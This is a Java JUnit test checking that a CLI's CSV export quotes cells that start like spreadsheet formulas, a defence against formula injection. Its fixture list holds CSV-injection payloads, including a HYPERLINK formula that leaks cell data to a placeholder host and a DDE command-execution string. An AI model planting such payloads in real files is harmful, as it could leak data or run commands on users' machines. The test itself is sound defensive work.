package org.entente.cli;

import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Text that a spreadsheet would run as a formula reaches the CSV export as text (OWASP, see export/columns.md). */
class CsvFormulaTest {
    private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://exemple.invalid/?\"&A1,\"voir\")",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1");

    @Test
    void cellsStartingLikeAFormulaAreQuotedAndTheRestIsUntouched(@TempDir Path tmp) throws Exception {
        Path input = tmp.resolve("hostile.jsonl");
        ObjectMapper json = new ObjectMapper();
        String[] pairs = {"La France et le Japon", "L'Allemagne et le Brésil", "L'Italie et l'Inde", "Le Canada et le Mexique",
                "L'Espagne et le Maroc", "La Chine et le Kenya"};
        try (Writer w = Files.newBufferedWriter(input, StandardCharsets.UTF_8)) {
            for (int i = 0; i < HOSTILE.size(); i++) {
                Map<String, String> a = new HashMap<>();
                a.put("id", "formule-" + i);
                a.put("url", HOSTILE.get(i));
                a.put("published", "2022-03-1" + i);
                a.put("text", pairs[i] + " ont signé le 1" + i + " mars 2022 un accord de coopération énergétique.");
                w.write(json.writeValueAsString(a) + "\n");
            }
        }
        String db = tmp.resolve("x.duckdb").toString();
        Cli.Run ingest = Cli.run("ingest", "--no-parse", input.toString(), "--db", db);
        assertEquals(0, ingest.code(), ingest.err());
        Path csv = tmp.resolve("events.csv");
        Cli.Run export = Cli.run("export", "--format", "csv", "--db", db, "-o", csv.toString());
        assertEquals(0, export.code(), export.err());

        try (Connection c = DriverManager.getConnection("jdbc:duckdb:"); Statement s = c.createStatement();
             ResultSet rs = s.executeQuery("SELECT first_source_url, event_id, goldstein FROM read_csv('"
                     + csv.toString().replace("'", "''") + "', header = true, all_varchar = true) ORDER BY event_id")) {
            int n = 0;
            while (rs.next()) {
                String url = rs.getString(1);
                assertTrue(url.startsWith("'") && HOSTILE.contains(url.substring(1)), "quoted as text: " + url);
                assertTrue(rs.getString(2).startsWith("formule-"), "other cells as they were: " + rs.getString(2));
                Double.parseDouble(rs.getString(3)); // numbers stay numbers
                n++;
            }
            assertEquals(HOSTILE.size(), n, "one signature per article");
        }
    }
}
